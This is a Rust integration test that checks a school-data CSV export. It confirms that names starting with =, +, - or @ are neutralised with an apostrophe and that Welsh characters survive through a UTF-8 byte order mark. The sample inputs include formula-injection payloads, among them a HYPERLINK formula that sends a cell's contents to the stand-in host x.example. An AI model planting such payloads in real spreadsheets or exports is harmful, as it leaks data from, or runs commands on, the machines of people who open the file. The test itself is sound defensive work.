//! Names that a spreadsheet would run as a formula, or show wrong.

use super::*;
use crate::flow::seen;
use events::Data;

/// A cell that begins with `=`, `+`, `-` or `@` runs when the file is opened. It is shown as text, and Welsh letters are right
/// because the file says that it is UTF-8.
#[tokio::test(flavor = "multi_thread")]
async fn a_spreadsheet_runs_no_name_and_shows_every_letter() {
    let world = Embedded::start().await;
    let names = [
        "=HYPERLINK(\"http://x.example/?\"&A2,\"Oak\")",
        "@SUM(1+1)*cmd",
        "-2+3 Oak",
        "+Oak",
        "Ysgol Tŷ Ffynnon, St Mary’s \"C/E\"",
    ];
    let schools: Vec<events::Event> = names
        .iter()
        .enumerate()
        .map(|(at, name)| named(at as u32, name))
        .collect();
    let answer = world.client().send(&schools).await.expect("an answer");
    assert_eq!(answer.accepted, 5, "{answer:#?}");
    (&world as &dyn Deployment).wait_until_settled().await;
    let results = seen::results(&(&world as &dyn Deployment).lake()).await;
    let ends = "period=trailing-12-months/schools.csv";
    let csv = results.iter().find(|(key, _)| key.ends_with(ends));
    let (_, bytes) = csv.expect("a table of the schools");
    let csv = std::str::from_utf8(bytes).expect("UTF-8");
    assert!(csv.starts_with('\u{feff}'), "no byte order mark");
    for name in names {
        let runs = name.starts_with(['=', '@', '-', '+']);
        let text = format!("{}{name}", if runs { "'" } else { "" });
        let quoted = format!("\"{}\"", text.replace('"', "\"\""));
        let cell = if text.contains([',', '"']) {
            quoted
        } else {
            text
        };
        let is_cell = csv
            .split('\n')
            .any(|row| row.contains(&format!(",{cell},")));
        assert!(is_cell, "no cell {cell} in {csv}");
    }
}

fn named(at: u32, name: &str) -> events::Event {
    let mut event = files::school(at);
    if let Data::SchoolRegistered(school) = &mut event.data {
        school.name = name.to_owned();
    }
    event
}
